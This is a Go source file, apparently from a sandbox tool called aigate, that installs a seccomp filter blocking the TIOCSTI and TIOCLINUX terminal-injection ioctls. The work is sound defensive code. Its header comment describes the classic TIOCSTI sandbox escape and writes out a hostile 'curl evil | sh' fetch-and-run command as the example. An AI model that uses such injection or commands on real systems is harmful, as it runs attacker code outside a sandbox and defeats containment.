//go:build linux

package exechelper

import (
	"fmt"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Why a seccomp filter in the exec helper: unless output masking gives it a
// pty of its own, the command shares aigate's controlling terminal, the one
// the user's shell reads. TIOCSTI pushes bytes into that terminal's input
// queue, so a sandboxed tool could type "curl evil | sh" followed by a newline
// into the shell that waits for aigate to exit, and the shell would run it
// outside the sandbox (the classic TIOCSTI escape). TIOCLINUX can paste the
// console selection the same way. The kernel allows both on one's own
// controlling terminal unless dev.tty.legacy_tiocsti is 0, which most
// distributions do not set. A new session would also stop them, but would take
// Ctrl-C, Ctrl-Z and SIGWINCH from the command; the filter takes only these
// two requests. Filters are inherited across fork and exec and cannot be
// removed, and no_new_privs (set by the helper) lets an unprivileged process
// install one.

// ttyFilter is the seccomp program: ioctl(fd, TIOCSTI or TIOCLINUX, ...)
// fails with EPERM, for the native and the compat system-call ABI; every
// other call is allowed.
func ttyFilter() ([]unix.SockFilter, error) {
	type abi struct {
		arch  uint32
		ioctl []uint32 // system-call numbers of ioctl under arch
	}
	var abis []abi
	switch runtime.GOARCH {
	case "amd64":
		const x32 = 0x40000000 // __X32_SYSCALL_BIT
		abis = []abi{
			{unix.AUDIT_ARCH_X86_64, []uint32{unix.SYS_IOCTL, x32 | 514}},
			{unix.AUDIT_ARCH_I386, []uint32{54}},
		}
	case "arm64":
		abis = []abi{
			{unix.AUDIT_ARCH_AARCH64, []uint32{unix.SYS_IOCTL}},
			{unix.AUDIT_ARCH_ARM, []uint32{54}},
		}
	default:
		return nil, fmt.Errorf("no TIOCSTI filter for %s", runtime.GOARCH)
	}
	const (
		ldW     = unix.BPF_LD | unix.BPF_W | unix.BPF_ABS
		jeq     = unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K
		ret     = unix.BPF_RET | unix.BPF_K
		offNr   = 0  // seccomp_data.nr
		offArch = 4  // seccomp_data.arch
		offCmd  = 24 // low 32 bits of args[1]: the kernel reads cmd as unsigned int
	)
	allow := unix.SockFilter{Code: ret, K: unix.SECCOMP_RET_ALLOW}
	deny := unix.SockFilter{Code: ret, K: unix.SECCOMP_RET_ERRNO | uint32(unix.EPERM)}
	// The tail every ioctl jumps to: check cmd.
	tail := []unix.SockFilter{
		{Code: ldW, K: offCmd},
		{Code: jeq, K: unix.TIOCSTI, Jt: 2},
		{Code: jeq, K: unix.TIOCLINUX, Jt: 1},
		allow,
		deny,
	}
	// Built backwards so that each jump knows how far the tail is.
	var prog []unix.SockFilter
	for i := len(abis) - 1; i >= 0; i-- {
		a := abis[i]
		// [jeq arch (else skip this block)] [ld nr] [jeq nr -> tail]... [allow]
		block := []unix.SockFilter{{Code: ldW, K: offNr}}
		for j, nr := range a.ioctl {
			// Instructions after this one up to the tail: the rest
			// of this block's compares, its allow, the later blocks
			// and the final allow.
			toTail := len(a.ioctl) - 1 - j + 1 + len(prog) + 1
			block = append(block, unix.SockFilter{Code: jeq, K: nr, Jt: uint8(toTail)})
		}
		block = append(block, allow)
		head := []unix.SockFilter{
			{Code: ldW, K: offArch},
			{Code: jeq, K: a.arch, Jf: uint8(len(block))},
		}
		prog = append(append(head, block...), prog...)
	}
	prog = append(prog, allow) // an unknown arch
	return append(prog, tail...), nil
}

// denyTerminalInjection installs ttyFilter on the calling thread, which must
// be the one that execs the command, after no_new_privs.
func denyTerminalInjection() error {
	prog, err := ttyFilter()
	if err != nil {
		return err
	}
	fp := unix.SockFprog{Len: uint16(len(prog)), Filter: &prog[0]}
	if err := unix.Prctl(unix.PR_SET_SECCOMP, unix.SECCOMP_MODE_FILTER, uintptr(unsafe.Pointer(&fp)), 0, 0); err != nil {
		return fmt.Errorf("install seccomp filter against TIOCSTI: %w", err)
	}
	runtime.KeepAlive(prog)
	return nil
}
